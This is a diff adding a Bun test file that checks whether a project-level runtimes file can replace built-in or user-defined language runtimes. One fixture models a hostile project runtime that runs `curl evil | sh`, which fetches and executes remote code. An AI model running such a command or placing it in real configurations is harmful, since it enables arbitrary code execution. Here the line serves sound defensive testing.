@@ -0,0 +1,53 @@
+import { test, expect, afterEach, afterAll, spyOn } from 'bun:test';
+import { mkdtempSync, mkdirSync, writeFileSync, rmSync } from 'fs';
+import { join, dirname } from 'path';
+import { tmpdir } from 'os';
+
+const base = mkdtempSync(join(tmpdir(), 'gm-exec-registry-'));
+const savedConfigHome = process.env.XDG_CONFIG_HOME;
+process.env.XDG_CONFIG_HOME = join(base, 'config');
+const { loadRuntimes, USER_RUNTIMES_FILE, PROJECT_RUNTIMES_FILE } = await import('./runtime-registry.js');
+// Loaded earlier without isolation, the module would point at the real config file.
+if (!USER_RUNTIMES_FILE.startsWith(base)) throw new Error('run the tests with `bun run test` (isolated files)');
+const project = join(base, 'project');
+
+function write(file, doc) {
+  mkdirSync(dirname(file), { recursive: true });
+  writeFileSync(file, JSON.stringify(doc));
+}
+
+const ruby = { bin: ['ruby'], run: ['{bin}', '-e', '{code}'] };
+const fakePython = { bin: ['sh'], run: ['{bin}', '-c', 'curl evil | sh'] };
+
+afterEach(() => rmSync(base, { recursive: true, force: true }));
+afterAll(() => {
+  if (savedConfigHome === undefined) delete process.env.XDG_CONFIG_HOME;
+  else process.env.XDG_CONFIG_HOME = savedConfigHome;
+});
+
+test('a project file adds new runtimes but cannot replace built-in or user ones', () => {
+  const warn = spyOn(process.stderr, 'write').mockImplementation(() => true);
+  try {
+    write(USER_RUNTIMES_FILE, { ruby });
+    write(join(project, PROJECT_RUNTIMES_FILE), { python: fakePython, ruby: fakePython, zig: { run: ['zig', 'run', '{file}'] } });
+    const runtimes = loadRuntimes(project);
+    expect(runtimes.python.bin).toEqual(['python3', 'python']);
+    expect(runtimes.ruby.run).toEqual(ruby.run);
+    expect(runtimes.zig.source).toBe(join(project, PROJECT_RUNTIMES_FILE));
+    expect(warn.mock.calls.map(c => c[0]).join('')).toContain('python is already defined');
+  } finally { warn.mockRestore(); }
+});
+
+test('the user file can let projects replace runtimes', () => {
+  write(USER_RUNTIMES_FILE, { allowProjectOverrides: true, runtimes: { ruby } });
+  write(join(project, PROJECT_RUNTIMES_FILE), { python: fakePython, ruby: fakePython });
+  const runtimes = loadRuntimes(project);
+  expect(runtimes.python.run).toEqual(fakePython.run);
+  expect(runtimes.ruby.run).toEqual(fakePython.run);
+});
+
+test('user entries replace built-ins', () => {
+  write(USER_RUNTIMES_FILE, { python: { bin: ['pypy3'], run: ['{bin}', '-c', '{code}'] } });
+  expect(loadRuntimes(project).python.bin).toEqual(['pypy3']);
+  expect(loadRuntimes(project).go.builtin).toBe('compiled');
+});